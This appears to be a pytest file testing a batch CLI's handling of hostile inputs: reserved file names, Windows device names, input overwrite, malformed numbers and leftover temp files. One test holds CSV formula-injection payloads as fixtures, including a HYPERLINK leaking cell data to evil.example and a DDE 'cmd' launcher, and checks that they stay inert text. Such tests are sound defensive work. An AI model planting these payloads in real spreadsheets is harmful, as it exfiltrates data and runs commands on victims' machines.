"""Hostile batch inputs: ids that name the run's own files or Windows devices, an input the run
would overwrite, cells that a spreadsheet would run as formulas, cells that are no number, and
what a killed run left behind. A bad cell is a bad row; nothing is lost or overwritten."""

from __future__ import annotations

import csv
import json
import subprocess

import pytest
from hostile import assert_clean_error


def results_of(out):
    with (out / "results.csv").open(encoding="utf-8", newline="") as handle:
        return list(csv.DictReader(handle))


@pytest.mark.parametrize("fmt, own", [("json", "summary.json"), ("markdown", "summary.md"), ("html", "index.html")])
def test_a_row_id_cannot_name_the_runs_own_summary(cli, tmp_path, fmt, own):
    stem = own.split(".")[0]
    survey = tmp_path / "survey.csv"
    survey.write_text(f"id,goals\n{stem},engagement\nother,alignment\n", encoding="utf-8")
    out = tmp_path / "out"
    result = cli("batch", str(survey), "--out", str(out), "--format", fmt, "--quiet")
    assert result.code == 0, result.err
    summary = json.loads((out / "summary.json").read_text(encoding="utf-8"))
    assert (summary["advised"], summary["invalid"]) == (1, 1)
    assert summary["invalid_rows"][0]["field"] == "id" and "cannot name an advice file" in summary["invalid_rows"][0]["message"]
    page = (out / own).read_text(encoding="utf-8")
    if fmt == "json":
        assert json.loads(page)["rows"] == 2  # the summary, not a row's advice
    else:
        assert f"other{own[own.index('.'):]}" in page  # the index, linking the other row's advice


@pytest.mark.parametrize("given", ["CON", "nul", "COM1", "lpt9", "Aux.old"])
def test_windows_device_names_do_not_name_advice_files(cli, tmp_path, given):
    survey = tmp_path / "survey.csv"
    survey.write_text(f"id,goals\n{given},engagement\n", encoding="utf-8")
    out = tmp_path / "out"
    assert cli("batch", str(survey), "--out", str(out), "--quiet").code == 0
    [row] = results_of(out)
    assert row["status"] == "invalid" and "cannot name an advice file" in row["problems"]
    assert sorted(p.name for p in out.iterdir()) == ["results.csv", "summary.json"]


def test_the_run_never_writes_over_its_own_input(cli, tmp_path):
    survey = tmp_path / "results.csv"
    text = "id,goals\na,engagement\n"
    survey.write_text(text, encoding="utf-8")
    result = cli("batch", str(survey), "--out", str(tmp_path))
    assert_clean_error(result, "results.csv over its own input")
    assert survey.read_text(encoding="utf-8") == text


def test_cells_that_would_start_a_formula_stay_text_in_results_csv(cli, tmp_path):
    lines = [
        {"goals": ["engagement"], "usage": {}, '=HYPERLINK("http://evil.example/?"&A1,"x")': 1},
        {"goals": ["engagement"], "usage": {}, "+cmd|' /C calc'!A0": 1},
        {"goals": ["engagement"], "usage": {}, "@SUM(1+1)": 1},
        {"id": "-2+3", "answers": {"goals": ["engagement"], "usage": {}}},
    ]
    requests = tmp_path / "requests.jsonl"
    requests.write_text("".join(json.dumps(line) + "\n" for line in lines), encoding="utf-8")
    out = tmp_path / "out"
    assert cli("batch", str(requests), "--out", str(out), "--quiet").code == 0
    cells = [cell for row in results_of(out) for cell in row.values()]
    assert not [cell for cell in cells if cell.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert any(cell.startswith("'=HYPERLINK(") for cell in cells)  # kept, as text


@pytest.mark.parametrize("employees", ["²", "1" + "0" * 5000, "٣٠٠"])
def test_an_employees_cell_that_is_no_whole_number_makes_a_bad_row(cli, tmp_path, employees):
    survey = tmp_path / "survey.csv"
    survey.write_text(f"id,goals,organisation.employees\nbad,engagement,{employees}\ngood,alignment,250\n", encoding="utf-8")
    out = tmp_path / "out"
    result = cli("batch", str(survey), "--out", str(out))
    assert result.code == 0, result.err
    assert "line 2" in result.err or f"{survey}:2" in result.err
    assert [(row["id"], row["status"]) for row in results_of(out)] == [("bad", "invalid"), ("good", "advised")]
    assert len(results_of(out)[0]["problems"]) < 200  # the cell is not repeated whole


def test_temporary_files_a_killed_run_left_are_removed(cli, tmp_path):
    out = tmp_path / "out"
    out.mkdir()
    dead = subprocess.Popen(["true"])
    dead.wait()
    left = out / f".a.json.{dead.pid}.tmp"
    left.write_text('{"half": ', encoding="utf-8")
    alive = subprocess.Popen(["sleep", "30"])
    try:
        writing = out / f".b.json.{alive.pid}.tmp"  # another run still writing: not ours to remove
        writing.write_text("", encoding="utf-8")
        survey = tmp_path / "survey.csv"
        survey.write_text("id,goals\na,engagement\n", encoding="utf-8")
        assert cli("batch", str(survey), "--out", str(out), "--quiet").code == 0
        assert not left.exists() and writing.exists()
        assert sorted(p.name for p in out.iterdir() if not p.name.startswith(".b.")) == ["a.json", "results.csv", "summary.json"]
    finally:
        alive.kill()
        alive.wait()
